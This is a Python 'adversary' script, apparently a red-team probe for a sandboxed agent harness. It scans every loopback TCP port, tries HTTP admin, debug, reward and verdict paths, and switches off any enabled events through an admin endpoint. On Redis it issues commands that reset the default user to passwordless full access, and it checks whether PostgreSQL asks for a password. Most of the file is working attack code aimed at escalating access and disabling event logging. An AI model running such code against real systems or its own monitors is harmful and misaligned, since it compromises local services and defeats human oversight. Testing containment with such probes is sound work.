"""Adversary "probe-loopback": walk every TCP port of 127.0.0.1, then talk to whatever answers
without the brokered tools: HTTP admin and debug paths (switch events off, reload), Redis
(CONFIG SET, ACL SETUSER) and PostgreSQL (which authentication it asks for)."""

import errno
import json
import selectors
import socket
import struct
import time
import urllib.error
import urllib.request

from _advlib import log, main

PATHS = ("/admin", "/admin/config", "/admin/event", "/admin/reload", "/admin/backlog", "/admin/windows",
         "/admin/grade", "/admin/verdict", "/debug", "/debug/vars", "/internal", "/evidence", "/verdict",
         "/reward", "/gates", "/metrics", "/healthz")


def scan(host: str = "127.0.0.1", batch: int = 400, budget: float = 20.0) -> list[int]:
    open_ports, deadline = [], time.monotonic() + budget
    for start in range(1, 65536, batch):
        if time.monotonic() > deadline:
            log(f"scan budget spent at port {start}")
            break
        selector, socks = selectors.DefaultSelector(), {}
        for port in range(start, min(start + batch, 65536)):
            try:
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            except OSError as error:  # out of file descriptors: finish this batch with what is open
                log(f"socket: {error}")
                break
            sock.setblocking(False)
            code = sock.connect_ex((host, port))
            if code in (0, errno.EINPROGRESS):
                socks[sock] = port
                selector.register(sock, selectors.EVENT_WRITE)
            else:
                sock.close()
        end = time.monotonic() + 0.5
        while socks and time.monotonic() < end:
            for key, _ in selector.select(timeout=0.1):
                ready = key.fileobj
                assert isinstance(ready, socket.socket)  # the selector holds only the sockets registered above
                if ready.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    open_ports.append(socks[ready])
                selector.unregister(ready)
                ready.close()
                socks.pop(ready)
        for sock in socks:
            sock.close()
        selector.close()
    return sorted(open_ports)


def http(port: int, method: str, path: str, body=None) -> tuple[int, str]:
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data, method=method,
                                     headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=2) as response:
            return response.status, response.read(4096).decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read(512).decode(errors="replace")
    except Exception as error:
        return 0, str(error)


def raw(port: int, payload: bytes, size: int = 4096) -> bytes:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1.5) as sock:
            sock.sendall(payload)
            return sock.recv(size)
    except OSError:
        return b""


def resp(*words: str) -> bytes:
    return b"".join([f"*{len(words)}\r\n".encode()] + [f"${len(w)}\r\n{w}\r\n".encode() for w in words])


def attack() -> None:
    ports = scan()
    log(f"open loopback ports: {ports}")
    for port in ports:
        status, text = http(port, "GET", "/healthz")
        if status:
            log(f"port {port}: HTTP {status} {text[:100]!r}")
            for path in PATHS:
                status, text = http(port, "GET", path)
                if status and status != 404:
                    log(f"  GET {path} -> {status} {' '.join(text.split())[:160]!r}")
            status, text = http(port, "GET", "/admin/event")
            try:
                events = json.loads(text).get("events", {}) if status == 200 else {}
            except ValueError:
                events = {}
            for name, on in events.items():
                if on:
                    log(f"  POST /admin/event {name} off ->", http(port, "POST", "/admin/event",
                                                                   {"name": name, "on": False})[0])
            continue
        answer = raw(port, resp("PING"))
        if answer.startswith((b"+PONG", b"-NOAUTH", b"-ERR", b"-WRONGPASS")):
            log(f"port {port}: Redis? {answer[:60]!r}")
            for words in (("ACL", "WHOAMI"), ("ACL", "LIST"), ("CONFIG", "SET", "maxmemory", "0"),
                          ("ACL", "SETUSER", "default", "on", "nopass", "+@all", "~*", "&*")):
                log(f"  {' '.join(words)} ->", raw(port, resp(*words))[:200])
            continue
        startup = struct.pack("!ii", 0, 196608) + b"user\0postgres\0database\0postgres\0\0"
        answer = raw(port, struct.pack("!i", len(startup) - 4 + 4) + startup[4:])
        if answer[:1] in (b"R", b"E"):
            kind = struct.unpack("!i", answer[5:9])[0] if answer[:1] == b"R" and len(answer) >= 9 else None
            log(f"port {port}: PostgreSQL? first answer {answer[:1]!r}, auth request {kind} "
                f"({'no password asked!' if kind == 0 else 'a password is needed'})")
            continue
        banner = raw(port, b"\r\n", 200)
        log(f"port {port}: something else {banner[:80]!r}")


main(attack)
